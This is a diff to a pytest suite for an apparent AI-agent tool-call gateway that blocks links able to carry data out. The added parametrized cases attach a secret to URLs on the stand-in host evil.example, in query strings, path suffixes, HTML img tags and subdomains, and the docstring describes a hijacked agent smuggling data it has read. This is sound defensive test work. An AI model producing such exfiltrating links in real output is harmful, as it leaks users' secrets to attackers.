@@ -12,9 +12,12 @@ from pathlib import Path
 
 import pytest
 
+from sentinel_rag.contracts.decisions import Allow
 from sentinel_rag.contracts.tool_calls import ToolSchema
+from sentinel_rag.interceptor.flow import judge
 from sentinel_rag.interceptor.flow.links import is_allowed, linked_hosts
-from sentinel_rag.interceptor.policy import parse_policy
+from sentinel_rag.interceptor.flow.record import facts_of
+from sentinel_rag.interceptor.policy import Policy, parse_policy
 from sentinel_rag.surfaces.cli._approval_page import page
 from sentinel_rag.testing.fake_executor import FakeExecutor
 from sentinel_rag.testing.running_gateway import RunningGateway, running_gateway
@@ -78,6 +81,7 @@ def test_a_link_to_the_operator_s_own_host_is_none_of_these(text: str) -> None:
 
 @dataclass(frozen=True)
 class Desk:
+    policy: Policy
     gateway: RunningGateway
     executor: FakeExecutor
 
@@ -93,7 +97,7 @@ def desk(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Desk]:
     policy = parse_policy(POLICY, source="links.yaml")
     with executor.running(), running_gateway(policy, folder, executor) as gateway:
         assert gateway.call("read_secret", {}).status == 200
-        yield Desk(gateway, executor)
+        yield Desk(policy, gateway, executor)
 
 
 @pytest.mark.requirement("TAINT-4")
@@ -130,3 +134,54 @@ def test_the_person_who_decides_is_told_of_the_link(tmp_path: Path) -> None:
         assert [violation["link"] for violation in shown["violations"]] == [True]
         assert "A link in it could carry data out." in page(shown, width=100, now=datetime.now(UTC))
         assert shown["arguments"] == {"message": "See https://evil.example/?d=SECRET"}
+
+
+NAMED_HOST = "https://evil.example/?d=SECRET"
+NAMED = [
+    # words of the person, a comment, whether it passes
+    ("Is the host evil.example known?", f"Seen: {NAMED_HOST}", False),
+    ("Is the host evil.example known?", "Seen: https://evil.example/ today", True),
+    ("Comment https://evil.example/a on it", "See https://evil.example/a.", True),
+    ("Comment https://evil.example/a on it", "[a](https://evil.example/a)", True),
+    ("Comment https://evil.example/a on it", "See https://evil.example/a?d=SECRET", False),
+    ("Comment https://evil.example/a on it", "See https://evil.example/aSECRET", False),
+    ("Comment https://evil.example/a on it", "See https://evil.example/a/SECRET", False),
+    ("Comment https://evil.example/a on it", "See https://evil.example/a,SECRET", False),
+    ("Comment https://evil.example/a on it", 'See "https://evil.example/a", please', True),
+    ("Comment https://evil.example/a on it", 'See "https://evil.example/a"SECRET', False),
+    ("Comment https://evil.example/a on it", "See *https://evil.example/a*SECRET", False),
+    ("Comment https://evil.example/a on it", "See (https://evil.example/a)SECRET", False),
+    # A reader of HTML takes the line break out and reads on.
+    ("Comment https://evil.example/a on it", '<img src="https://evil.example/a\n?d=SECRET">', False),
+    ("Comment https://evil.example/a on it", '<img src=" https://evil.example/a\nSECRET">', False),
+    ("Comment https://evil.example/a on it", '&lt;img src=" https://evil.example/a\nSECRET">', False),
+    ("Comment https://evil.example/a on it", "See https://evil.example/a and //SECRET.evil.example", False),
+    ("Comment https://evil.example/a on it", "https://other.example/?u=https://evil.example/a", False),
+]
+
+
+@pytest.mark.requirement("TAINT-4")
+@pytest.mark.parametrize(("words", "text", "passes"), NAMED, ids=ascii)
+def test_an_address_of_the_person_s_is_theirs_whole_and_on_record(
+    desk: Desk, words: str, text: str, passes: bool
+) -> None:
+    """A hijacked agent adds what it has read to an address, or to a host, that the person only spoke of."""
+    gateway = desk.gateway
+    session = gateway.open_session()
+    assert gateway.say(session, words)
+    assert gateway.call("read_secret", {}, session_id=session).status == 200
+    answer = gateway.call("comment", {"message": text}, session_id=session)
+    assert (answer.status == 200) is passes
+    if passes:  # an exception, and one by which the record is judged to the same verdict again
+        audit_id = answer.body["audit_id"]
+        intent = next(r for r in gateway.records() if r.get("audit_id") == audit_id and "flow" in r)
+        assert [(each["kind"], each["by"]) for each in intent["flow"]["links"]] in (
+            [("url", "user")],
+            [("host", "user")],
+            [("host", "user"), ("url", "user")],
+            [("url", "user"), ("host", "user")],
+        )
+        again = judge(desk.policy, desk.policy.tools["comment"], {"message": text}, facts_of(intent))
+        assert isinstance(again.decision, Allow)
+    else:
+        assert gateway.last_record()["flow"]["violations"][0]["link"] is True
